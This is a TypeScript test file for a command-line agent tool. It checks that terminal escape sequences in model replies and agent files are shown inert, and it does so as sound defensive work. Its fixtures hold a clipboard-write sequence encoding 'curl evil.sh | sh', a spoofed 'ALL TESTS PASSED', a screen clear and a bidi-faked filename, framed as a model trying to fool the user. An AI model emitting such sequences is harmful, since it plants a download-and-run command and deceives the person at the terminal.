// What reaches the person's terminal, through the real CLI, the real SDK and the fake Messages API:
// a final text, tool summaries and agent-file text full of escape sequences, C1 controls, bidi and
// invisible characters arrive inert (asserted on what the process wrote); --raw passes the text as
// it is; --json is exact.
import { mkdir, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { textReply, toolUseReply } from '../../support/fake-anthropic.js';
import { runCli } from '../../support/cli.js';
import { tempProject } from '../../support/project.js';
import { startScripted, type ScriptedServer } from './scripted-server.js';

/** OSC 52 (clipboard), OSC 0 (title), clear screen, red, an 8-bit CSI, RLO, a zero-width space, a bare CR. */
const HOSTILE =
  'all good\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;pwned\x1b\\\x1b[2J\x1b[1;31mALL TESTS PASSED\x1b[0m' +
  '\u009b2J \u202etxt.exe\u200b\rfake line\nsecond line\x1bP+q\x1b\\ end';
/** The characters of `text` a terminal acts on or hides (controls but newline, C1, bidi, zero-width). */
function unsafe(text: string): string[] {
  return [...text].filter((ch) => {
    const c = ch.charCodeAt(0);
    return (
      (c < 0x20 && c !== 0x0a) ||
      (c >= 0x7f && c <= 0x9f) ||
      (c >= 0x200b && c <= 0x200f) ||
      (c >= 0x202a && c <= 0x202e) ||
      (c >= 0x2066 && c <= 0x2069)
    );
  });
}

let s: ScriptedServer;
let project: Awaited<ReturnType<typeof tempProject>>;
const cadre = (...args: string[]) => runCli([...args, '--cwd', project.dir], s.env, project.dir);

beforeAll(async () => {
  project = await tempProject({ 'src/a.ts': 'export const a = 1;\n' });
  s = await startScripted();
  s.scripts.set('hostile', [
    () => toolUseReply([{ name: 'Grep', input: { pattern: 'x\x1b]0;title\x07\x1b[2J' } }]),
    () => textReply(HOSTILE),
  ]);
});
afterAll(async () => {
  await s.server.close();
  await project.cleanup();
});

describe('a clean terminal', () => {
  it('a final text and a tool summary full of escape sequences reach the terminal inert', async () => {
    const r = await cadre('run', 'explore', '[[hostile]] report');
    expect(r.code).toBe(0);
    expect(unsafe(r.stdout)).toEqual([]);
    expect(unsafe(r.stderr)).toEqual([]);
    // Shown, not acted on: the person sees what the model tried.
    expect(r.stdout).toContain('␛]52;c;Y3VybCBldmlsLnNoIHwgc2g=␇');
    expect(r.stdout).toContain('␛[2J␛[1;31mALL TESTS PASSED␛[0m');
    expect(r.stdout).toContain('<U+009B>2J <U+202E>txt.exe<U+200B>␍fake line\nsecond line');
    expect(r.stderr).toMatch(/· Grep x␛\]0;title␇␛\[2J/);
  });

  it('--raw prints the text as it is, for a renderer downstream', async () => {
    const r = await cadre('run', 'explore', '[[hostile]] report', '--raw');
    expect(r.stdout).toBe(`${HOSTILE}\n`);
  });

  it('--json is exact', async () => {
    const r = await cadre('run', 'explore', '[[hostile]] report', '--json');
    expect((JSON.parse(r.stdout) as { result: string }).result).toBe(HOSTILE);
  });

  it('agent names and descriptions from files are inert in agents list and show', async () => {
    await mkdir(path.join(project.dir, '.cadre', 'agents'), { recursive: true });
    await writeFile(
      path.join(project.dir, '.cadre', 'agents', 'sly.md'),
      '---\nname: sly\ndescription: "Helpful\\e]52;c;Y3VybA==\\a agent \\e[2J\\x9b31m \\u202Eevil"\n---\nYou are \\e[31m sly.\n',
    );
    const list = await cadre('agents', 'list');
    expect(list.code).toBe(0);
    expect(list.stdout).toContain('sly');
    expect(unsafe(list.stdout)).toEqual([]);
    expect(list.stdout).toContain('Helpful␛]52;c;Y3VybA==␇ agent ␛[2J<U+009B>31m');
    const show = await cadre('agents', 'show', 'sly');
    expect(unsafe(show.stdout)).toEqual([]);
    const json = await cadre('agents', 'list', '--json');
    const sly = (JSON.parse(json.stdout) as { name: string; description: string }[]).find(
      (a) => a.name === 'sly',
    );
    expect(sly?.description).toBe('Helpful\x1b]52;c;Y3VybA==\x07 agent \x1b[2J\u009b31m \u202eevil');
  });
});
